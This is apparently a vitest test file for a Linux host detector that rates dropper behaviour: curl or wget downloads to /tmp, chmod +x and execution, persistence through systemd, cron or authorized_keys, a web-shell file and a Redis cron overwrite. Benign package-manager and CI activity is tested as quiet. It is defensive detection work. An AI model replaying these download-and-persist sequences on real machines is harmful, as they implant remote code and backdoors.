import { describe, expect, it } from 'vitest';
import { debian, Machine } from '../../../test/machine.ts';
import { triad } from './behaviour.ts';

const stage = (settings: Record<string, boolean | number> = {}, planted: string[] = []): Machine => new Machine(triad, { settings, packages: debian(planted) });

function curl(s: Machine, parent: number, file: string, url = 'https://files.example/x', ip = '198.51.100.7'): number {
  const pid = s.spawn(parent, '/usr/bin/curl', `curl -so ${file} ${url}`);
  s.connect(pid, ip, 443);
  s.file(pid, 'create', file);
  s.end(pid);
  return pid;
}
const chmod = (s: Machine, parent: number, file: string): void => { s.file(s.spawn(parent, '/usr/bin/chmod', `chmod +x ${file}`), 'chmod', file, { extra: { mode: '0755' } }); };

describe('a dropper in its first seconds', () => {
  it('from the web: told when the file is marked, before it runs', () => {
    const s = stage();
    const sh = s.spawn(s.worker(), '/usr/bin/dash', 'sh -c curl …; chmod +x …; …');
    curl(s, sh, '/tmp/x');
    expect(s.levels).toEqual([]);
    chmod(s, sh, '/tmp/x');
    expect(s.levels).toEqual(['critical']);
    s.spawn(sh, '/tmp/x');
    expect(s.levels).toEqual(['critical']);
    expect(s.found[0]).toMatchObject({ key: `${sh}:${s.node(sh).started}`, group: { peer: '198.51.100.7:443', file: '/tmp/x', origin_en: 'the web service php-fpm' } });
  });

  it.each([
    ['cron', '/tmp/x', 'https://files.example/x', ['high', 'critical']], ['cron', '/dev/shm/x', 'https://files.example/x', ['critical']], ['cron', '/usr/local/bin/x', 'https://files.example/x', ['medium']],
    ['cron', '/usr/local/bin/x', 'http://198.51.100.7/x', ['high']], ['login', '/tmp/x', 'https://files.example/x', ['low']], ['login', '/tmp/.x/y', 'http://198.51.100.7/x', ['high']], ['login', '/usr/local/bin/x', 'https://files.example/x', []],
    ['unknown', '/var/tmp/x', 'https://files.example/x', ['high', 'critical']],
  ] as const)('from %s that puts down and runs %s from %s', (from, file, url, levels) => {
    const s = stage();
    const top = s.spawn(from === 'cron' ? s.cron('x') : from === 'login' ? s.login() : s.seen('/usr/bin/odd', 'odd', { pid: 4000 }), '/usr/bin/bash', 'bash drop.sh');
    curl(s, top, file, url);
    chmod(s, top, file);
    s.spawn(top, file);
    expect(s.levels).toEqual(levels);
  });

  it('that plants itself first and calls home then, by itself', () => {
    const s = stage();
    const agent = s.spawn(s.cron('x'), '/opt/.agent/agent');
    s.file(agent, 'create', '/etc/systemd/system/agent.service');
    expect(s.levels).toEqual([]);
    s.connect(agent, '198.51.100.7', 443);
    expect(s.levels).toEqual(['critical']);
  });

  it('in a database server and in a web server itself', () => {
    const s = stage();
    const redis = s.daemon('redis-server', '/usr/bin/redis-server');
    s.connect(redis, '198.51.100.7', 6379);
    s.rename(redis, '/var/spool/cron/temp-1.rdb', '/var/spool/cron/root');
    const worker = s.worker();
    s.connect(worker, '198.51.100.7', 443);
    s.file(worker, 'create', '/var/www/.ssh/authorized_keys');
    s.file(worker, 'create', '/var/www/html/cache/a.php');
    expect(s.levels).toEqual(['critical', 'critical']);
  });

  it('of a person that plants a key', () => {
    const s = stage();
    const bash = s.spawn(s.login(), '/usr/bin/bash', 'bash drop.sh');
    s.connect(s.spawn(bash, '/usr/bin/wget', 'wget -q https://files.example/k'), '198.51.100.7', 443);
    s.file(bash, 'write', '/root/.ssh/authorized_keys');
    expect(s.levels).toEqual(['medium']);
    const other = s.spawn(s.login(), '/usr/bin/bash', 'bash drop.sh');
    s.connect(s.spawn(other, '/usr/bin/wget', 'wget -q http://198.51.100.7/k'), '198.51.100.7', 80);
    s.file(other, 'create', '/etc/cron.d/k');
    expect(s.levels).toEqual(['medium', 'high']);
  });
});

it('legs that belong to different work, come too late or from an old tree are not joined', () => {
  const s = stage();
  const shell = s.login();
  curl(s, shell, '/home/wang/page.html');
  chmod(s, shell, '/tmp/own.sh');
  const job = s.cron('x');
  curl(s, job, '/srv/feed');
  s.later(130_000);
  chmod(s, job, '/tmp/x');
  const old = s.daemon('app', '/srv/app/app');
  s.connect(old, '198.51.100.7', 443);
  s.file(old, 'create', '/etc/cron.d/app');
  expect(s.levels).toEqual([]);
});

it('package managers, git, backups, certificates, configuration management, browsers, builds and agents stay quiet', () => {
  const s = stage({}, ['/usr/bin/own-agent']);
  const shell = s.login();
  const apt = s.spawn(shell, '/usr/bin/apt-get', 'apt-get install nginx');
  s.connect(s.spawn(apt, '/usr/lib/apt/methods/http', '/usr/lib/apt/methods/http'), '203.0.113.80', 80);
  const dpkg = s.spawn(apt, '/usr/bin/dpkg', 'dpkg --unpack nginx.deb');
  s.rename(dpkg, '/etc/cron.d/nginx.dpkg-new', '/etc/cron.d/nginx');
  s.rename(dpkg, '/usr/sbin/nginx.dpkg-new', '/usr/sbin/nginx');
  const postinst = s.spawn(dpkg, '/usr/bin/dash', '/bin/sh /var/lib/dpkg/info/nginx.postinst configure');
  s.file(postinst, 'create', '/etc/systemd/system/x.service');
  s.connect(postinst, '203.0.113.80', 443);
  const npm = s.spawn(shell, '/usr/bin/node', 'npm ci');
  s.connect(npm, '203.0.113.80', 443);
  s.file(npm, 'chmod', '/home/wang/a/node_modules/x/cli.js', { extra: { mode: '0755' } });
  const git = s.spawn(shell, '/usr/bin/git', 'git clone https://git.example/x');
  s.connect(s.spawn(git, '/usr/lib/git-core/git-remote-https', 'git-remote-https'), '203.0.113.80', 443);
  s.file(git, 'chmod', '/home/wang/x/run.sh', { extra: { mode: '0755' } });
  const rsync = s.spawn(s.cron('rsync'), '/usr/bin/rsync', 'rsync -a backup.example::x /srv');
  s.connect(rsync, '203.0.113.80', 873);
  s.file(rsync, 'chmod', '/srv/bin/x', { extra: { mode: '0755' } });
  s.file(rsync, 'create', '/etc/cron.d/x');
  const certbot = s.spawn(s.cron('certbot'), '/usr/bin/python3.11', '/usr/bin/python3 /usr/bin/certbot -q renew');
  s.connect(certbot, '203.0.113.80', 443);
  s.file(certbot, 'write', '/etc/cron.d/certbot');
  s.file(certbot, 'chmod', '/etc/letsencrypt/renewal-hooks/x', { extra: { mode: '0755' } });
  const ansible = s.spawn(s.spawn(shell, '/usr/bin/dash', "/bin/sh -c 'python3 …'"), '/usr/bin/python3.11', '/usr/bin/python3 /home/wang/.ansible/tmp/x/AnsiballZ_get_url.py');
  s.connect(ansible, '203.0.113.80', 443);
  s.file(ansible, 'create', '/usr/local/bin/tool');
  s.file(ansible, 'chmod', '/usr/local/bin/tool', { extra: { mode: '0755' } });
  const puppet = s.spawn(s.daemon('puppet', '/usr/bin/puppet'), '/usr/bin/puppet', 'puppet agent');
  s.connect(puppet, '203.0.113.80', 8140);
  s.file(puppet, 'create', '/etc/cron.d/x');
  const runner = s.spawn(s.daemon('actions.runner', '/home/ci/runner/bin/Runner.Listener'), '/home/ci/runner/bin/Runner.Worker');
  const step = s.spawn(runner, '/usr/bin/bash', 'bash -e /home/ci/runner/_work/_temp/1.sh');
  curl(s, step, '/opt/tools/x', 'http://10.0.0.9/x');
  chmod(s, step, '/opt/tools/x');
  s.file(step, 'write', '/home/ci/.bashrc');
  const chrome = s.spawn(shell, '/usr/lib/chromium/chromium', 'chromium');
  s.connect(chrome, '203.0.113.80', 443);
  s.file(chrome, 'create', '/home/wang/.config/autostart/chromium.desktop');
  const cargo = s.spawn(shell, '/home/wang/.cargo/bin/cargo', 'cargo build');
  s.connect(cargo, '203.0.113.80', 443);
  s.file(s.spawn(cargo, '/usr/bin/gcc', 'gcc'), 'chmod', '/home/wang/x/target/release/x', { extra: { mode: '0755' } });
  const assistant = s.daemon('aliyun', '/usr/local/share/aliyun-assist/aliyun-service');
  const script = s.spawn(assistant, '/usr/bin/bash', 'bash /usr/local/share/aliyun-assist/work/script/t-1.sh');
  curl(s, script, '/usr/local/bin/x');
  chmod(s, script, '/usr/local/bin/x');
  // Names and accounts are asked of the network by everybody, and a database stands on this machine.
  const job = s.cron('x');
  s.connect(job, '10.0.0.2', 53);
  s.connect(job, '127.0.0.1', 5432);
  s.file(job, 'create', '/etc/cron.d/x');
  expect(s.found.map((d) => [d.level, d.group?.['top'], d.group?.['file']])).toEqual([]);
});

it('the machine itself counts when asked for', () => {
  const s = stage({ local: true });
  const top = s.spawn(s.cron('x'), '/usr/bin/bash', 'bash drop.sh');
  curl(s, top, '/tmp/x', 'http://127.0.0.1:8000/x', '127.0.0.1');
  chmod(s, top, '/tmp/x');
  expect(s.levels).toEqual(['critical']);
});
